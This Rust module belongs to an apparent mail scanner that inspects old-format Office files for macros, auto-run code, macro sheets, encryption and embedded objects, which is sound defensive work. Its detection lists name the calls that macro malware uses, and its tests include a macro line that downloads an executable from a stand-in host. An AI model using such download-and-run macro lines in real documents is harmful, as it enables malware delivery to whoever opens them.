//! OLE2 compound files (Word, Excel and PowerPoint 97-2003, and the encrypted wrapper of
//! every newer Office file): whether they carry macros, whether those macros run on their
//! own or fetch and run programs, and whether the document is encrypted; and the text of a
//! Word document (`word`).
//!
//! The directory is read with `cfb`; macros are found by their storages (a `VBA` storage with
//! a `dir` stream) and Excel 4.0 macro sheets by the workbook's sheet records, rather than by
//! SpamAssassin's byte markers, so a macro is seen whatever the file is called.

pub mod ovba;
pub mod word;

use super::{Extracted, Limits};
use std::io::{Cursor, Read, Seek};
use std::path::{Path, PathBuf};

/// The compound file signature.
pub const SIGNATURE: [u8; 8] = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];

/// Streams read from one file, at most (a file of thousands of streams is a way to spin).
const MAX_STREAMS: usize = 500;

/// Names of code that runs by itself when a document is opened or closed (Word, Excel,
/// PowerPoint and Basic event names), lower case. SpamAssassin looks for the first three.
const AUTO_EXEC: [&str; 9] = [
    "document_open",
    "autoopen",
    "workbook_open",
    "auto_open",
    "document_close",
    "autoclose",
    "auto_close",
    "autoexec",
    "workbook_beforeclose",
];

/// Calls with which macro malware starts programs, reaches the network or hides itself,
/// lower case.
const SUSPICIOUS: [&str; 12] = [
    "shell",
    "wscript.shell",
    "createobject",
    "urldownloadtofile",
    "powershell",
    "msxml2.xmlhttp",
    "winhttp",
    "adodb.stream",
    "callbyname",
    "environ(",
    "createprocess",
    "executeexcel4macro",
];

/// What an Office document holds besides its text.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Macros {
    /// A macro project (VBA, or OpenDocument Basic).
    pub vba: bool,
    /// Excel 4.0 macro sheets.
    pub xlm: bool,
    /// Macro code that runs when the document opens or closes.
    pub auto_exec: bool,
    /// Macro code that starts programs or reaches the network.
    pub suspicious: bool,
    /// Macro code that names a program on a web server (`http://.../x.exe`).
    pub download_exe: bool,
    /// The document is encrypted: its content (and any macro) cannot be read.
    pub encrypted: bool,
    /// Embedded OLE objects (`xl/embeddings/`, `ObjectPool`).
    pub object: bool,
    /// An RTF document embedded in a Word file.
    pub rtf_object: bool,
    /// External targets the document fetches when opened (remote templates, linked
    /// objects): SpamAssassin's redirect and MHTML checks.
    pub external: Vec<String>,
}

impl Macros {
    /// Whether the document has macro code of any kind.
    pub fn any(&self) -> bool {
        self.vba || self.xlm
    }

    /// Adds what `other` found.
    pub fn merge(&mut self, other: &Macros) {
        self.vba |= other.vba;
        self.xlm |= other.xlm;
        self.auto_exec |= other.auto_exec;
        self.suspicious |= other.suspicious;
        self.download_exe |= other.download_exe;
        self.encrypted |= other.encrypted;
        self.object |= other.object;
        self.rtf_object |= other.rtf_object;
        self.external.extend(other.external.iter().cloned());
    }

    /// Reads macro source for the auto-run names and the suspicious calls.
    pub fn scan_source(&mut self, source: &str) {
        let lower = source.to_ascii_lowercase();
        self.auto_exec |= AUTO_EXEC.iter().any(|n| lower.contains(n));
        self.suspicious |= SUSPICIOUS.iter().any(|n| lower.contains(n));
        self.download_exe |= names_remote_program(&lower);
    }
}

/// `http://host/path.exe` (or `.cmd`, `.bat`, `.scr`, `.ps1`) in macro source, or the
/// `mshta` download command SpamAssassin's marker describes.
fn names_remote_program(lower: &str) -> bool {
    if lower.contains("mshta http") || lower.contains("ms^h^ta ht^tp") {
        return true;
    }
    lower.match_indices("http").any(|(at, _)| {
        let url: String = lower[at..]
            .chars()
            .take_while(|c| !c.is_whitespace() && !matches!(c, '"' | '\'' | ')' | '<'))
            .take(500)
            .collect();
        (url.starts_with("http://") || url.starts_with("https://"))
            && [".exe", ".cmd", ".bat", ".scr", ".ps1", ".hta"]
                .iter()
                .any(|ext| url.ends_with(ext))
    })
}

/// The macros of a compound file (nothing when it cannot be read as one).
pub fn macros_of(bytes: &[u8], limits: &Limits) -> Macros {
    macros_of_with(Cursor::new(bytes), limits, limits)
}

/// Same, read from `src` in place (a part spooled to a file is not copied into memory).
pub fn macros_of_reader<R: Read + Seek>(src: R, limits: &Limits) -> Macros {
    macros_of_with(src, limits, limits)
}

/// Same; `nested` are the limits for what is embedded in PowerPoint streams.
fn macros_of_with<R: Read + Seek>(src: R, limits: &Limits, nested: &Limits) -> Macros {
    match cfb::CompoundFile::open(src) {
        Ok(mut cf) => macros_in(&mut cf, limits, nested),
        Err(_) => Macros::default(),
    }
}

/// The macros of the open compound file `cf`.
fn macros_in<F: Read + Seek>(
    cf: &mut cfb::CompoundFile<F>,
    limits: &Limits,
    nested: &Limits,
) -> Macros {
    let mut m = Macros::default();
    let entries: Vec<(PathBuf, bool)> = cf
        .walk()
        .take(MAX_STREAMS)
        .map(|e| (e.path().to_path_buf(), e.is_stream()))
        .collect();
    let mut budget = limits.max_inflated;
    for (path, is_stream) in &entries {
        let name = path
            .file_name()
            .map(|n| n.to_string_lossy().to_ascii_lowercase())
            .unwrap_or_default();
        match (name.as_str(), is_stream) {
            ("encryptedpackage" | "encryptioninfo" | "encryptedsummary", true) => {
                m.encrypted = true;
            }
            ("objectpool", false) | ("\u{1}ole10native", true) => m.object = true,
            (n, false) if n.starts_with("mbd") => m.object = true,
            ("powerpoint document", true) if nested.max_input > 0 => {
                let stream = read_stream(cf, path, limits.max_input);
                for embedded in powerpoint_storages(&stream, limits) {
                    m.merge(&macros_of_embedded(&embedded, nested));
                }
            }
            ("dir", true) if is_vba_storage(path.parent()) => {
                m.vba = true;
                let parent = path.parent().unwrap_or(Path::new("/"));
                read_vba(cf, parent, &mut m, &mut budget);
            }
            ("workbook" | "book", true) => {
                let stream = read_stream(cf, path, 1 << 20);
                let (xlm, encrypted) = biff_facts(&stream);
                m.xlm |= xlm;
                m.encrypted |= encrypted;
            }
            ("worddocument", true) => {
                let fib = read_stream(cf, path, 16);
                // FIB flags at 0x0A: fEncrypted is bit 8 (MS-DOC 2.5.2).
                m.encrypted |= fib.get(0x0b).is_some_and(|b| b & 0x01 != 0);
            }
            _ => {}
        }
    }
    m
}

/// PowerPoint 97 keeps its VBA project (and embedded objects) as zlib-compressed compound
/// files inside its document stream, in ExOleObjStg records (MS-PPT 2.10.34, type 0x1011,
/// instance 1 when compressed). Found by scanning for the record type, at most 64 of them.
fn powerpoint_storages(stream: &[u8], limits: &Limits) -> Vec<Vec<u8>> {
    let mut found = Vec::new();
    let mut budget = limits.max_inflated as u64;
    let mut at = 0;
    while at + 12 <= stream.len() && found.len() < 64 && budget > 0 {
        let kind = u16::from_le_bytes([stream[at + 2], stream[at + 3]]);
        let instance = u16::from_le_bytes([stream[at], stream[at + 1]]) >> 4;
        if kind != 0x1011 || instance != 1 {
            at += 1;
            continue;
        }
        let len = u32::from_le_bytes([
            stream[at + 4],
            stream[at + 5],
            stream[at + 6],
            stream[at + 7],
        ]);
        let body = stream
            .get(at + 12..(at + 8).saturating_add(len as usize))
            .unwrap_or(&[]);
        let mut out = Vec::new();
        let mut z = flate2::read::ZlibDecoder::new(body).take(budget);
        // A damaged stream keeps what inflated before the damage.
        let _ = z.read_to_end(&mut out);
        budget -= out.len() as u64;
        if out.starts_with(&SIGNATURE) {
            found.push(out);
        }
        at += 8;
    }
    found
}

/// The macros of a compound file found inside another: one level (`max_input` 0 for what
/// it embeds), so that a file nesting itself cannot recurse.
fn macros_of_embedded(bytes: &[u8], limits: &Limits) -> Macros {
    let inner = Limits {
        max_input: 0,
        ..*limits
    };
    macros_of_with(Cursor::new(bytes), limits, &inner)
}

/// A storage called `VBA` (Word's `Macros/VBA`, Excel's `_VBA_PROJECT_CUR/VBA`).
fn is_vba_storage(path: Option<&Path>) -> bool {
    path.and_then(Path::file_name)
        .is_some_and(|n| n.eq_ignore_ascii_case("vba"))
}

/// Up to `max` bytes of the stream at `path` (empty when it cannot be read).
fn read_stream<F: Read + std::io::Seek>(
    cf: &mut cfb::CompoundFile<F>,
    path: &Path,
    max: usize,
) -> Vec<u8> {
    let mut v = Vec::new();
    if let Ok(s) = cf.open_stream(path) {
        let _ = s.take(max as u64).read_to_end(&mut v);
    }
    v
}

/// Reads the source of each module in the VBA storage `vba` into `m`.
fn read_vba<F: Read + std::io::Seek>(
    cf: &mut cfb::CompoundFile<F>,
    vba: &Path,
    m: &mut Macros,
    budget: &mut usize,
) {
    let dir = ovba::decompress(&read_stream(cf, &vba.join("dir"), 1 << 20), 1 << 20);
    let mut modules = ovba::modules(&dir);
    if modules.is_empty() {
        // A damaged `dir`: every other stream, its source found by its first line.
        modules = cf
            .read_storage(vba)
            .map(|es| {
                es.filter(|e| e.is_stream())
                    .map(|e| (e.name().to_string(), usize::MAX))
                    .collect()
            })
            .unwrap_or_default();
    }
    for (name, offset) in modules.into_iter().take(MAX_STREAMS) {
        if *budget == 0 {
            return;
        }
        let stream = read_stream(cf, &vba.join(&name), *budget);
        let start = match offset {
            usize::MAX => ovba::guess_source_start(&stream),
            o => Some(o),
        };
        let Some(source) = start.and_then(|s| stream.get(s..)) else {
            continue;
        };
        let text = ovba::decompress(source, *budget);
        *budget = budget.saturating_sub(text.len().max(stream.len()));
        m.scan_source(&String::from_utf8_lossy(&text));
    }
}

/// Whether an Excel workbook stream declares a macro sheet, and whether it is encrypted
/// (a FILEPASS record), from its BIFF records.
fn biff_facts(stream: &[u8]) -> (bool, bool) {
    let (mut xlm, mut encrypted) = (false, false);
    let mut at = 0;
    while at + 4 <= stream.len() {
        let kind = u16::from_le_bytes([stream[at], stream[at + 1]]);
        let len = usize::from(u16::from_le_bytes([stream[at + 2], stream[at + 3]]));
        let body = stream.get(at + 4..at + 4 + len).unwrap_or(&[]);
        match kind {
            // BOUNDSHEET8: the sheet type is the sixth byte; 1 is a macro sheet.
            0x0085 => xlm |= body.get(5) == Some(&1),
            0x002f => encrypted = true,
            // EOF of the workbook globals: the sheet list is complete.
            0x000a => break,
            _ => {}
        }
        at += 4 + len;
    }
    (xlm, encrypted)
}

/// A compound file as a document: its macros, and for a Word document its text and the
/// links of its fields.
pub fn extract(bytes: &[u8], limits: &Limits) -> Extracted {
    let mut doc = Extracted {
        kind: "doc",
        macros: Some(Macros::default()),
        ..Extracted::default()
    };
    let Ok(mut cf) = cfb::CompoundFile::open(Cursor::new(bytes)) else {
        return doc;
    };
    doc.macros = Some(macros_in(&mut cf, limits, limits));
    if let Some(w) = word::text(&mut cf, limits) {
        doc.text = w.text;
        doc.uris = w.links;
        doc.truncated = w.truncated;
    }
    doc
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::extract::fixtures;

    fn word_with_macro(source: &str) -> Vec<u8> {
        fixtures::word_with_macro(source).unwrap()
    }

    fn compound(streams: &[(&str, &[u8])]) -> Vec<u8> {
        fixtures::compound(streams).unwrap()
    }

    #[test]
    fn vba_source_is_read() {
        let doc = word_with_macro(
            "Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\nx = CreateObject(\"WScript.Shell\")\nEnd Sub\n",
        );
        let m = macros_of(&doc, &Limits::default());
        assert!(m.vba && m.auto_exec && m.suspicious && !m.download_exe && !m.encrypted);
        let harmless = macros_of(
            &word_with_macro("Sub Format()\nEnd Sub\n"),
            &Limits::default(),
        );
        assert!(harmless.vba && !harmless.auto_exec && !harmless.suspicious);
    }

    #[test]
    fn download_and_encryption() {
        let doc = word_with_macro("URLDownloadToFile 0, \"http://evil.example/a.exe\", f, 0, 0");
        assert!(macros_of(&doc, &Limits::default()).download_exe);
        let enc = compound(&[("/EncryptionInfo", b"x"), ("/EncryptedPackage", b"y")]);
        let m = macros_of(&enc, &Limits::default());
        assert!(m.encrypted && !m.any());
        let mut fib = [0u8; 32];
        fib[0x0b] = 1;
        assert!(macros_of(&compound(&[("/WordDocument", &fib)]), &Limits::default()).encrypted);
    }

    #[test]
    fn powerpoint_keeps_vba_in_its_document_stream() {
        use std::io::Write;
        let project = word_with_macro("Sub Auto_Open()\nEnd Sub");
        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        z.write_all(&project).unwrap();
        let z = z.finish().unwrap();
        // Some other record first, then ExOleObjStg (instance 1: compressed).
        let mut stream = vec![0x0f, 0x00, 0xe8, 0x03, 0, 0, 0, 0];
        stream.extend(0x0010u16.to_le_bytes());
        stream.extend(0x1011u16.to_le_bytes());
        stream.extend(((4 + z.len()) as u32).to_le_bytes());
        stream.extend((project.len() as u32).to_le_bytes());
        stream.extend(&z);
        let ppt = compound(&[("/PowerPoint Document", &stream), ("/Current User", b"u")]);
        let m = macros_of(&ppt, &Limits::default());
        assert!(m.vba && m.auto_exec, "{m:?}");
    }

    #[test]
    fn embedded_objects_and_encrypted_presentations() {
        let limits = Limits::default();
        assert!(macros_of(&compound(&[("/MBD0009CF7B/\u{1}CompObj", b"x")]), &limits).object);
        assert!(macros_of(&compound(&[("/\u{1}Ole10Native", b"x")]), &limits).object);
        assert!(macros_of(&compound(&[("/EncryptedSummary", b"x")]), &limits).encrypted);
    }

    #[test]
    fn excel_macro_sheet() {
        // BOF, BOUNDSHEET8 (a macro sheet called "M"), EOF.
        let mut wb = vec![0x09, 0x08, 0x02, 0x00, 0x00, 0x06];
        wb.extend([0x85, 0x00, 0x08, 0x00, 0, 0, 0, 0, 0x00, 0x01, 0x01, b'M']);
        wb.extend([0x0a, 0x00, 0x00, 0x00]);
        let m = macros_of(&compound(&[("/Workbook", &wb)]), &Limits::default());
        assert!(m.xlm && !m.vba);
    }

    #[test]
    fn not_a_compound_file() {
        assert_eq!(macros_of(b"hello", &Limits::default()), Macros::default());
        let mut junk = SIGNATURE.to_vec();
        junk.extend([0xffu8; 600]);
        assert_eq!(macros_of(&junk, &Limits::default()), Macros::default());
    }
}
